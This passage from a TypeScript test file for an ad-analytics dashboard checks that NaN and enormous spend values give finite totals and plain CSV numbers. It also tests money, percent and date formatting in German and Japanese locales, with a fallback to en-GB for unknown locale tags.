    const refused = await insert(t, [{ id: 'NAN', day: lastDay, spend: 'NaN', impressions: 10, clicks: 1, conversions: 'NaN', value: 'NaN' }]).then(() => false, () => true);
    if (refused) return;
    const p = await pageFor(t, {});
    expect({
      notFinite: badNumbers(p),
      spend: p.kpis.find((k) => k.metric === 'spend')!.current,
      nanRating: p.rows.find((r) => r.entityId === 'NAN')?.rating ?? 'Insufficient data',
      // One bad row must not change how the other campaigns of the platform are rated.
      others: p.rows.filter((r) => r.entityId !== 'NAN').map((r) => [r.entityId, r.rating]),
    }).toEqual({ notFinite: [], spend: expect.closeTo(2100, 6), nanRating: 'Insufficient data', others: before });
  });

  it('enormous values (spend 999,999,999,999.99 a day, value on days without spend): exact sums, and the CSV writes numbers, never "NaN"', async () => {
    const t = await createTenant(owner, 'Enormous');
    const lastDay = await lastDayOf(t);
    await insert(t, Array.from({ length: 30 }, (_, ago) => [
      { id: 'BIG', day: addDays(lastDay, -ago), spend: '999999999999.99', impressions: 9_000_000_000_000, clicks: 1e12, conversions: '999999999999.99', value: '99999999999999.99' },
      // Late value on 20 days, one cent of spend on one of them: ROAS 2e17.
      ...(ago < 20 ? [{ id: 'TINY', day: addDays(lastDay, -ago), spend: ago === 0 ? '0.01' : 0, impressions: 1, clicks: 1, conversions: 1, value: '99999999999999.99' }] : []),
    ]).flat());
    const p = await pageFor(t, { range: '30d' });
    expect(badNumbers(p)).toEqual([]);
    expect(p.kpis.find((k) => k.metric === 'spend')!.current).toBeCloseTo(30 * 999999999999.99 + 0.01, 0);
    const tiny = p.rows.find((r) => r.entityId === 'TINY')! as EntityRow;
    const roas = tiny.current.value / tiny.current.spend;
    expect(roas / 2e17).toBeCloseTo(1, 9);
    const bad: string[] = [];
    for (const [v, f] of [[roas, 'ratio'], [30 * 999999999999.99, 'money'], [1e19, 'money'], [5e15, 'fraction'], [1e20, 'percent']] as const) {
      if (!/^\d+(\.\d+)?$/.test(csvNumber(v, f))) bad.push(`${v} as ${f}: ${csvNumber(v, f)}`);
    }
    expect(bad).toEqual([]);
  });
});

describe('formatting in the tenant locale', () => {
  const n = (s: string) => s.replace(/[\u00a0\u202f]/g, ' ');
  it('de-DE euros, percents and days', () => {
    expect(n(formatMoney(1234.56, { currency: 'EUR', locale: 'de-DE' }, { decimals: 2 }))).toBe('1.234,56 €');
    expect(n(formatMoney(42.5, { currency: 'EUR', locale: 'de-DE' }))).toBe('42,50 €');
    expect(n(formatPercent(0.0123, { locale: 'de-DE' }))).toBe('1,23 %');
    expect(formatCalendarDay('2026-12-01', 'de-DE')).toBe('1. Dez. 2026');
    expect(n(formatMoney(1e12, { currency: 'EUR', locale: 'de-DE' }))).toBe('1.000.000.000.000 €');
  });
  it('a currency without minor units (JPY) is written without decimals, even under 100', () => {
    expect(formatMoney(42.37, { currency: 'JPY', locale: 'ja-JP' })).toBe('￥42');
    expect(n(formatMoney(42.37, { currency: 'JPY', locale: 'de-DE' }))).toBe('42 ¥');
  });
  it('a locale the runtime does not know (saas.tenants.locale accepts any xx or xx-XX) falls back to en-GB, not to the host default', () => {
    // Migration 007: "the pages fall back to en-GB for a tag the runtime does not know".
    expect(formatCalendarDay('2026-12-01', 'zz')).toBe(formatCalendarDay('2026-12-01', 'en-GB'));
    expect(formatCalendarDay('2026-12-01', 'qq-QQ')).toBe('1 Dec 2026');
  });
});
